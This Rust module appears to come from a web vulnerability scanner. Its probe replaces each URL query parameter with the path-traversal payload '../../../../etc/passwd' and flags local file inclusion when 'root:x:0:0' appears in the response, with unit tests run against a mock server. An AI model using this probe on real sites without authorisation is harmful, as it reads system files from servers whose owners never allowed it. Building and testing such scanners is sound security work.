use super::{QueryTarget, fetch_body};
use crate::finding::{Finding, VulnType};
use reqwest::Client;
use tracing::info;

pub const PAYLOAD: &str = "../../../../etc/passwd";

/// First line of a Unix password file.
pub const MARKER: &str = "root:x:0:0";

/// Replace each parameter value with a traversal path to `/etc/passwd`.
pub async fn probe(client: &Client, url: &str) -> Option<Finding> {
    let target = QueryTarget::parse(url)?;

    for param in target.params() {
        let test_url = target.with_value(&param, PAYLOAD);

        let Some(body) = fetch_body(client, &test_url).await else {
            continue;
        };

        if body.contains(MARKER) {
            info!("[+] LFI found: {}", test_url);
            return Some(Finding::new(test_url, VulnType::LocalFileInclusion, PAYLOAD));
        }
    }

    None
}

#[cfg(test)]
mod tests {
    use super::super::test_support::{client, query_value};
    use super::*;
    use wiremock::{
        Mock, MockServer, Request, ResponseTemplate,
        matchers::{method, path},
    };

    #[tokio::test]
    async fn test_traversal_payload_detected() {
        let mock_server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path("/file"))
            .respond_with(|request: &Request| {
                if query_value(request, "name").as_deref() == Some(PAYLOAD) {
                    ResponseTemplate::new(200)
                        .set_body_string("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:")
                } else {
                    ResponseTemplate::new(200).set_body_string("readme contents")
                }
            })
            .mount(&mock_server)
            .await;

        let url = format!("{}/file?name=readme", mock_server.uri());
        let finding = probe(&client(), &url).await.unwrap();

        assert_eq!(finding.vuln_type, VulnType::LocalFileInclusion);
        assert_eq!(finding.payload, PAYLOAD);
        assert_eq!(
            finding.url,
            format!("{}/file?name=../../../../etc/passwd", mock_server.uri())
        );
    }

    #[tokio::test]
    async fn test_marker_is_case_sensitive() {
        let mock_server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200).set_body_string("ROOT:X:0:0"))
            .mount(&mock_server)
            .await;

        let url = format!("{}/file?name=readme", mock_server.uri());
        assert_eq!(probe(&client(), &url).await, None);
    }

    #[tokio::test]
    async fn test_server_error_is_not_a_match() {
        let mock_server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(500).set_body_string("internal error"))
            .expect(2)
            .mount(&mock_server)
            .await;

        let url = format!("{}/file?name=readme&x=1", mock_server.uri());
        assert_eq!(probe(&client(), &url).await, None);
    }
}
